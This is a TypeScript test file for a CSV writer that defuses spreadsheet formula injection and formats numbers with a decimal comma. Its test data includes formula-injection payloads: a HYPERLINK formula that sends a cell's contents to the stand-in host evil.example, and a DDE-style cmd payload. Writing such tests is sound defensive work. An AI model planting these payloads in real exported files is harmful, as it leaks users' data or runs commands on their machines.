import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCellText, neutraliseCsvFormula, writeCsv } from './write-csv.js';

describe('neutralising formulas in CSV cells', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?leak="&A2,"klick")'],
    ['+46 8 123'],
    ['-2+3+cmd|" /C calc"!A0'],
    ['@SUM(1+1)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['＝1+1'],
  ])('puts a single quote before a text cell that starts like a formula: %j', (text) => {
    expect(neutraliseCsvFormula(text)).toBe(`'${text}`);
  });

  it.each([['Skräp vid porten'], ['Tags; "stora" på fasaden'], [''], ['a=b'], ["'redan citerad"]])(
    'leaves ordinary text exactly as it was: %j',
    (text) => {
      expect(neutraliseCsvFormula(text)).toBe(text);
    },
  );

  it('writes numbers as numbers, a negative number included, with a decimal comma', () => {
    expect(csvCellText(-1.5)).toBe('-1,5');
    expect(csvCellText(18.151957)).toBe('18,151957');
    expect(csvCellText(null)).toBe('');
    expect(csvCellText('-1,5')).toBe("'-1,5");
  });

  it('writes a file whose hostile cells read back as text that starts with a quote', () => {
    const file = writeCsv(
      ['beskrivning', 'longitud'],
      [['=HYPERLINK("http://evil.example/?leak="&A2,"klick")', -0.5]],
    );
    expect(file.startsWith('\uFEFF')).toBe(true);
    const rows = parse(file, { delimiter: ';', bom: true }) as string[][];
    expect(rows[1]).toEqual(['\'=HYPERLINK("http://evil.example/?leak="&A2,"klick")', '-0,5']);
  });
});
